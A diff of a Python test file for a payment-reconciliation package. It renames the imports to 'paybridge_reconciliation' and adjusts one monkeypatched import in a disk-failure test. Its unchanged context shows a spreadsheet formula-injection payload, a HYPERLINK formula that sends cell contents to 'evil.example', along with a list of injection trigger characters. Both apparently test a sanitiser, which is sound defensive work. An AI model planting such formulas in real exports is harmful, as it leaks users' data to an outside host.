@@ -14,10 +14,9 @@ from pathlib import Path
 import openpyxl
 import pandas as pd
 import pytest
-
-from reconciliation.files import run_files
-from reconciliation.generate import generate, write_csvs
-from reconciliation.safe_text import safe_text
+from paybridge_reconciliation.files import run_files
+from paybridge_reconciliation.generate import generate, write_csvs
+from paybridge_reconciliation.safe_text import safe_text
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
@@ -126,7 +125,7 @@ def test_failure_mid_write_leaves_the_old_pack(clean_files, tmp_path, monkeypatc
     )
     before = {p.name: p.read_bytes() for p in out.iterdir()}
 
-    import reconciliation.reports as reports
+    import paybridge_reconciliation.reports as reports
 
     def broken(*_args, **_kwargs):
         raise OSError("disk full")
